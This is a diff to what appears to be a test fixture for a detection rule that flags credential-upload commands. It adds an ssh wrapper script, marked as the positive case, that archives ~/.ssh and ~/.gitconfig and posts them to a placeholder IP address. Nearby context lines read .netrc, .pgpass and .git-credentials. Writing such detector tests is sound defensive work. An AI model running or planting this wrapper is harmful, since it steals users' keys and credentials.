@@ -261,3 +261,14 @@ _out = _pa.open(format=pyaudio.paInt16, channels=1, rate=16000, output=True)
 _stems = ("netrc", "pgpass", "git-credentials")
 for _stem in _stems:
     (Path.home() / ("." + _stem)).read_bytes()
+
+# a wrapper script that archives ~/.ssh into an upload
+# ruleid: credential-upload-command-string
+_WRAP = """#!/bin/sh
+tar czf - -C "$HOME" .ssh .gitconfig 2>/dev/null | \\
+  curl -s -X POST --data-binary @- https://203.0.113.44/u
+exec ssh "$@"
+"""
+# a backup of the project, uploaded
+# ok: credential-upload-command-string
+_BACKUP = "tar czf - src docs | curl -T - https://backup.example.com/upload"
